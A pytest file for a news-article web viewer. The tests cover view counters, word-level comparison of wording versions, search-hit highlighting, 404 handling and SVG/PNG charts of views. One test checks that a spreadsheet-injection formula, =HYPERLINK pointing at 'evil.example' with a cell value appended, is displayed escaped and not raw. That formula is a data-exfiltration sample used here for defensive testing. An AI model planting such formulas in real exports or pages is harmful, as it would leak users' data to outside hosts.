"""The page of one article: its counter, its wordings, its matches, its story; and the picture of its views."""

import asyncio
import re
import xml.etree.ElementTree as ET

import httpx
import pytest

from tests.cli.story import EVIL, Story
from tests.web.over import reading


@pytest.fixture(scope="module")
def story(tmp_path_factory: pytest.TempPathFactory) -> Story:
    told = Story(tmp_path_factory.mktemp("told"))
    asyncio.run(told.tell())
    return told


@pytest.fixture
async def over_story(story: Story):
    async with reading(story.config, story.now) as client:
        yield client


async def test_hits_are_marked_in_the_newest_wording_by_rule(reader: httpx.AsyncClient):
    found = (await reader.get("/articles?text=ambassador")).text
    (id_,) = re.findall(r'<h3><a href="/articles/(\d+)">', found)
    page = await reader.get(f"/articles/{id_}")

    assert 'title="vakunov">Vakunov</mark> &lt;b&gt;meets&lt;/b&gt; the ambassador' in page.text
    assert 'title="visa">visas</mark>.' in page.text
    assert re.findall(r'<mark class="(hit-\d)">(\w+)</mark>', page.text) == [
        ("hit-0", "vakunov"),
        ("hit-1", "visa"),
    ]
    assert "<b>" not in page.text


async def test_the_counter_is_told_and_every_reading_is_in_the_table(
    over_story: httpx.AsyncClient,
):
    page = (await over_story.get("/articles/1")).text
    rows = page.partition("<summary>Every look at it: 10")[2].partition("</table>")[0]

    assert "<strong>3\u202f001 views</strong>" in page
    assert "times the views usual at its age" in page
    assert rows.count("<tr><td>") == 10
    assert rows.count("not believed") == 1
    assert "Its counter is doubtful: counter backwards." in page
    assert '<img src="/articles/1/views.svg?lang=en"' in page


async def test_wordings_are_compared_word_by_word(over_story: httpx.AsyncClient):
    page = (await over_story.get("/articles/1")).text
    turned = (await over_story.get("/articles/1?from=2&to=1")).text

    assert "What wording 2 changed in wording 1" in page
    assert '<p class="gone">Погибли <del>3</del>' in page
    assert '<p class="new">Погибли <ins>5</ins>' in page
    assert "headline changed" in page
    assert '<p class="gone">Погибли <del>5</del>' in turned


@pytest.mark.parametrize("query", ["from=x&to=9", "from=&to=", "to=1", "from=2&to=2"])
async def test_wordings_that_are_not_there_harm_nothing(over_story: httpx.AsyncClient, query: str):
    assert (await over_story.get(f"/articles/1?{query}")).status_code == 200


async def test_raw_facts_and_alerts_are_shown(over_story: httpx.AsyncClient):
    page = (await over_story.get("/articles/1")).text

    assert '<a href="/alerts/msg_1">' in page
    assert "<code>24.kg#1</code>" in page
    assert '<a href="https://24.kg/english/1_title/" rel="noopener noreferrer">' in page
    assert "Where it stood: 1" in page
    assert "Every spelling of its link: 1" in page
    assert " · 200 · " in page


async def test_what_a_page_says_is_text(over_story: httpx.AsyncClient):
    page = (await over_story.get("/articles/2")).text

    assert EVIL not in page
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1;&#34;Visa&#34;)" in page


async def test_an_article_that_was_never_read_says_so(over_story: httpx.AsyncClient):
    page = (await over_story.get("/articles/3")).text

    assert "Its page was not read yet." in page
    assert "No counter was read." in page
    assert "<img" not in page


@pytest.mark.parametrize("id_", ["99", "9" * 40, "0"])
async def test_nobody_knows_it(over_story: httpx.AsyncClient, id_: str):
    page = await over_story.get(f"/articles/{id_}")

    assert page.status_code == 404
    assert "No article has this number." in page.text


async def test_views_are_drawn_on_light_and_on_dark_ground(over_story: httpx.AsyncClient):
    light = await over_story.get("/articles/1/views.svg")
    dark = await over_story.get("/articles/1/views.svg?dark=1&narrow=1&lang=ru")
    png = await over_story.get("/articles/1/views.png")

    assert ET.fromstring(light.content).get("viewBox") != ET.fromstring(dark.content).get("viewBox")
    assert "#14171a" in dark.text
    assert "#14171a" not in light.text
    assert "views, each reading a dot" in light.text
    assert "просмотры, точка — показание" in dark.text
    assert light.headers["content-type"] == "image/svg+xml"
    assert "script-src" not in light.headers["content-security-policy"]
    assert png.content[:4] == b"\x89PNG"


@pytest.mark.parametrize(
    "path", ["/articles/3/views.svg", "/articles/99/views.svg", "/articles/1/views.gif"]
)
async def test_where_there_is_nothing_to_draw_there_is_no_picture(
    over_story: httpx.AsyncClient, path: str
):
    assert (await over_story.get(path)).status_code == 404


async def test_without_the_library_the_table_is_open_and_says_why(story: Story):
    async with reading(story.config, story.now, can_draw=False) as client:
        page = (await client.get("/articles/1")).text
        picture = await client.get("/articles/1/views.svg")

    assert "Curves need matplotlib" in page
    assert "<img" not in page
    assert "<details open>" in page
    assert picture.status_code == 404
